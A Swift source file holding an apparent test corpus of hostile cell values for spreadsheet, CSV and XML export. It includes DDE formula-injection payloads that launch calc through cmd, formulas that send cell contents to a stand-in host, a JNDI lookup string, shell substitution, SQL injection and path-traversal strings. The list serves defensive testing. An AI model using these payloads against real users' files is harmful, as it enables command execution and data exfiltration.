/// Texts that spreadsheets, XML or readers of CSV have taken for something else.
enum HostileCells {
  static let all: [String] = {
    var texts = formulas + broken + characters + notNumbers + notDates + addresses
    // Whatever guards the first character has to see past what programs skip.
    for prefix in ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"] {
      for rest in ["1+1", "A1", "SUM(A1:A2)", "cmd|' /C calc'!A0", "\"a\"", ""] {
        texts.append(prefix + rest)
      }
    }
    return texts
  }()

  private static let formulas = [
    "=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "{=1+1}", "{=TABLE(A1)}",
    "=cmd|'/C calc.exe'!Z0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\cmd'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=WEBSERVICE(\"http://x.example\")",
    "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")", "=IMAGE(\"http://x.example/a.png\")",
    "='file://etc/passwd'#$passwd.A1", "+49 30 901820", "-", "--", "-1", "+1", "=", "==", "@x",
    "@", "|calc", "%0A=1+1", "'=1+1", "''", "'", "\"=1+1\"", ";=1+1", ",=1+1", "\u{feff}=1+1",
    "\u{200b}=1+1", "=\u{301}1",
  ]

  private static let broken = [
    "\"", "\"\"", "\"\"\"", "a\"b", "a,b", "a;b", "a\tb", "a\nb", "a\rb", "a\r\nb", "\n", "\r\n",
    "\r", "\t", " ", "  a  ", "\u{a0}", "a\n\n\nb", "a\"\r\n\"b", "</t></is></c>", "<f>1+1</f>",
    "&amp;", "&#0;", "&", "<", ">", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?xml?>", "<!DOCTYPE a>",
    "&lol;", "%s%n%d", "\\", "\\n", "\\u0000", "${jndi:ldap://x}", "{{7*7}}", "`id`", "$(id)",
    "'; DROP TABLE finding; --", "../../etc/passwd", "NULL", "null", "None", "nil", "undefined",
    "TRUE", "FALSE", "#N/A", "#REF!", "#DIV/0!", "_x000D_", "_x0041_", "__x0041_", "_x005F_x0041_",
    "_x00_", "_xZZZZ_", "_X0041_", "a_x000a_b", "_x0000_", "_xD83D_",
  ]

  private static let characters = [
    "\u{0}", "a\u{0}b", "\u{1}", "\u{7}", "\u{8}", "\u{b}", "\u{c}", "\u{1b}[31mred\u{1b}[0m",
    "\u{1f}", "\u{7f}", "\u{80}", "\u{85}", "\u{9f}", "\u{2028}", "\u{2029}", "\u{fffe}",
    "\u{ffff}", "\u{fffd}", "\u{feff}", "\u{202e}exe.txt", "\u{202d}", "\u{2066}a\u{2069}",
    "\u{200e}", "\u{200f}שלום", "مرحبا", "日本語", "e\u{301}", "é", "👩‍👩‍👧‍👦", "🇨🇭", "😀",
    "\u{1f600}\u{fe0f}", "\u{10ffff}", "\u{e000}", "\u{1d400}", "ﬁ", "İ", "ß",
    String(repeating: "\u{301}", count: 100), String(repeating: "x", count: 32_767),
    String(repeating: "x", count: 32_768), String(repeating: "y", count: 100_000),
    String(repeating: "😀", count: 16_383), String(repeating: "😀", count: 16_384),
    String(repeating: "\u{0}", count: 5_000), String(repeating: "a\n", count: 20_000),
    String(repeating: "=1+1,", count: 30_000), String(repeating: "<", count: 32_767),
  ]

  private static let notNumbers = [
    "0", "00", "007", "000000000001", "123456789012", "12345678901234567890", "1e5", "1E400",
    "-0", "0x10", "1,000", "1.000,50", "1.10", "Infinity", "NaN", "１２３", "½", "1_000", ".5",
    "5.", "+41", "MARCH1", "SEPT2", "DEC1", "2/3", "1-2",
  ]

  private static let notDates = [
    "2026-02-30", "2026-13-01", "1/2/2026", "01.02.2026", "20260201", "2026", "24:00", "1:2",
    "0000-00-00", "9999-12-31T24:00:00Z", "1900-02-29", "2026-W07-1", "today",
  ]

  private static let addresses = [
    "http://x.example", "https://x.example/?a=1&b=<2>", "mailto:a@x.example", "ftp://x.example",
    "javascript:alert(1)", "file:///etc/passwd", "\\\\x.example\\share", "internal:Sheet1!A1",
    "external:c:\\a.xlsx", "arn:aws:s3:::b", "user@example.org",
    "https://x.example/" + String(repeating: "a", count: 2_100),
  ]
}
